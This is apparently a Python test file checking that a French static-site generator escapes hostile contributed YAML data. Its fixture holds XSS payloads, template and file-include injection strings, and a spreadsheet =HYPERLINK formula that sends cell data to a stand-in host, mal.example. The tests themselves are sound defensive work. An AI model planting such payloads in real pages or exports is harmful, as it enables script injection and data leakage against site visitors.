"""Contributed data is untrusted: hostile text is shown as text, bad data stops the build."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from conftest import ROOT, construire, creer_donnees, creer_projet, creer_scenario, lire_config

from referentiel.sorties import recherche


HOSTILE = """\
id: hostile
titre: "<script>alert('titre')</script> {{ 7*7 }} *gras* {: onclick=alert(2) }"
statut: proposee
acteur:
  nom: "<img src=x onerror=alert(1)>"
  type: association
  presentation: |
    {% include 'secret.txt' %} et {{ config.site_name }}

    --8<-- "mkdocs.yml"

    <div onmouseover="alert(3)">survol</div>
action:
  resume: "Un texte <b onclick=alert(4)>gras</b> avec {{ 6*7 }} et <iframe src=//mal.example></iframe>."
  publics:
    - "</li><script>alert(5)</script>"
contributions:
  - critere: EP1
    constats: |
      # Un titre qui casserait la page
      <script>alert(6)</script>
      [lien sûr](https://exemple.org) et <https://exemple.org/auto>.
      Écrire à <contact@exemple.fr> ou [à l'équipe](mailto:equipe@exemple.fr).
    indicateurs:
      - id: EP1.1
        valeur: "<svg onload=alert(7)>"
        source: "\\"><script>alert(8)</script>"
      - id: EP1.2
        valeur: '=HYPERLINK("https://mal.example/?"&A1;"cliquez")'
"""


@pytest.fixture(scope="module")
def site_hostile(tmp_path_factory):
    """The real site's pages, with the shipped fiches and the hostile one (HTML only: see site_hostile_pdf)."""
    projet = creer_projet(tmp_path_factory.mktemp("hostile"))
    creer_donnees(projet, {"hostile.yaml": HOSTILE}, avec_fiches_livrees=True)
    sortie = construire(projet)
    assert sortie.code == 0, sortie.stderr
    return projet / "site"


@pytest.fixture(scope="module")
def site_hostile_pdf(tmp_path_factory):
    """The tiny site tests/sites/pdf with the hostile fiche alone, PDFs printed."""
    projet = creer_scenario("pdf", tmp_path_factory.mktemp("pdf-hostile"))
    (projet / "data" / "fiches" / "hostile.yaml").write_text(HOSTILE, encoding="utf-8")
    sortie = construire(projet, pdf=True)
    assert sortie.code == 0, sortie.stderr
    return projet / "site"


class Elements(HTMLParser):
    """Every element with its attributes, and the text of every script."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._dans_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._dans_script = tag == "script"

    def handle_endtag(self, tag):
        self._dans_script = False

    def handle_data(self, data):
        if self._dans_script:
            self.scripts.append(data)


def pages(site):
    return {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8") for p in site.rglob("*.html")}


def test_aucun_script_injecte(site_hostile, site_hostile_pdf):
    for nom, html in [*pages(site_hostile).items(), *pages(site_hostile_pdf).items()]:
        for n in range(1, 9):
            assert f"<script>alert({n})" not in html, nom
        assert "<script>alert('titre')" not in html, nom
        parsed = Elements()
        parsed.feed(html)
        for tag, attrs in parsed.elements:
            assert not any(a.lower().startswith("on") for a in attrs), (nom, tag, attrs)
            assert tag not in {"iframe", "img"}, (nom, tag, attrs)
            for a in ("href", "src"):
                assert not (attrs.get(a) or "").strip().lower().startswith("javascript:"), (nom, tag, attrs)
        assert not any("alert" in s for s in parsed.scripts), nom


def test_texte_hostile_visible_comme_texte(site_hostile):
    html = (site_hostile / "fiches" / "hostile" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&lt;b onclick=alert(4)&gt;gras&lt;/b&gt;" in html
    # No file is ever included (snippets syntax stays text).
    assert "site_name:" not in html and "--8&lt;--" in html
    # Never templated: the braces are shown, never evaluated.
    assert "{{ 6*7 }}" in html and "{{ 7*7 }}" in html and "{% include" in html
    assert "42" not in re.sub(r"<[^>]+>", "", html).replace("2026", "")
    # Safe links stay links.
    assert 'href="https://exemple.org"' in html and 'href="https://exemple.org/auto"' in html
    # A contributed heading does not become a page heading.
    assert "<h1" not in html.split("Un titre qui casserait la page")[0].split("Utilité sociale")[-1]


def test_liens_acceptes_vivants_partout(site_hostile, site_hostile_pdf):
    """The links the validator accepted are live links: on the page, in the fiche's PDF;
    the search index holds their text, never markup."""
    from pypdf import PdfReader

    html = (site_hostile / "fiches" / "hostile" / "index.html").read_text(encoding="utf-8")
    assert '<a href="mailto:contact@exemple.fr" rel="nofollow noopener">contact@exemple.fr</a>' in html
    assert '<a href="mailto:equipe@exemple.fr" rel="nofollow noopener">à l\'équipe</a>' in html
    pdf = PdfReader(site_hostile_pdf / "telechargements" / "fiches" / "hostile.pdf")
    cibles = {a.get_object()["/A"].get("/URI") for page in pdf.pages for a in page.get("/Annots") or []
              if a.get_object().get("/A")}
    assert {"https://exemple.org", "https://exemple.org/auto", "mailto:contact@exemple.fr",
            "mailto:equipe@exemple.fr"} <= cibles
    assert all(c is None or c.startswith(("https://", "http://", "mailto:", "/")) for c in cibles), cibles
    texte = " ".join(p.extract_text() for p in pdf.pages)
    assert "<script>alert(6)</script>" in texte  # shown, as text
    # The search index (Pagefind) holds the page's text: markup written in a fiche is text
    # there too, which the search box shows as text (test_recherche.py).
    textes = " ".join(f["content"] for f in recherche.fragments(site_hostile) if f["url"] == "/fiches/hostile/")
    assert "contact@exemple.fr" in textes
    assert "<img src=x onerror=alert(1)>" in textes and "rel=" not in textes and "href=" not in textes


def test_formule_inerte_dans_le_csv_exacte_dans_le_json(site_hostile):
    import csv
    import json

    with open(site_hostile / "donnees" / "fiches.csv", encoding="utf-8-sig", newline="") as fh:
        valeurs = [r["valeur"] for r in csv.DictReader(fh) if r["fiche"] == "hostile"]
    assert '\'=HYPERLINK("https://mal.example/?"&A1;"cliquez")' in valeurs
    lignes = (site_hostile / "donnees" / "fiches.json").read_text(encoding="utf-8").splitlines()
    fiche = json.loads(next(x for x in lignes if '"id":"hostile"' in x).rstrip(","))
    assert fiche["contributions"][0]["indicateurs"][1]["valeur"] == '=HYPERLINK("https://mal.example/?"&A1;"cliquez")'


def test_titre_hostile_echappe_dans_les_listes(site_hostile):
    for url in ("fiches/index.html", "matrice/index.html", "criteres/ep1/index.html",
                "indicateurs/ep1-1/index.html", "dimensions/ep/index.html"):
        html = (site_hostile / url).read_text(encoding="utf-8")
        assert "&lt;script&gt;alert(&#x27;titre&#x27;)&lt;/script&gt;" in html or \
            "&lt;script&gt;alert('titre')&lt;/script&gt;" in html, url


def test_une_fiche_invalide_arrete_la_construction(tmp_path):
    """tests/sites/fiche_invalide: two fiches (FICHE_VALIDE with « statut: no », and with « critere: EP9 »)."""
    projet = creer_scenario("fiche_invalide", tmp_path)
    sortie = construire(projet)
    assert sortie.code != 0
    sortie_texte = sortie.stdout + sortie.stderr
    # The same lines as `referentiel valider`, then a French summary.
    assert ("data/fiches/essai.yaml:3: statut : « no » n'est pas une valeur permise ; "
            "écrivez l'une de : exemple, proposee, publiee") in sortie_texte
    assert "data/fiches/autre.yaml:10: contributions[0].critere : « EP9 » n'existe pas" in sortie_texte
    assert "Construction arrêtée : 2 problèmes dans les données" in sortie_texte
    assert "Traceback" not in sortie_texte
    assert not (projet / "site" / "index.html").exists()


def test_page_generee_ne_remplace_pas_une_page_ecrite(tmp_path):
    """tests/sites/page_ecrite: a hand-written docs/criteres/ep1.md."""
    projet = creer_scenario("page_ecrite", tmp_path)
    assert (projet / "docs" / "criteres" / "ep1.md").is_file()
    sortie = construire(projet)
    assert sortie.code != 0
    assert "docs/criteres/ep1.md existe déjà" in sortie.stdout + sortie.stderr


def test_un_lien_casse_arrete_la_construction(tmp_path):
    """tests/sites/lien_casse: a hand-written page links to page-absente.md."""
    projet = creer_scenario("lien_casse", tmp_path)
    # The tiny site checks links as the real one does.
    reel = lire_config(ROOT)
    assert lire_config(projet)["validation"] == reel["validation"] and reel["strict"] is True
    assert "(page-absente.md)" in (projet / "docs" / "index.md").read_text(encoding="utf-8")
    sortie = construire(projet)
    assert sortie.code != 0
    assert "page-absente.md" in sortie.stdout + sortie.stderr
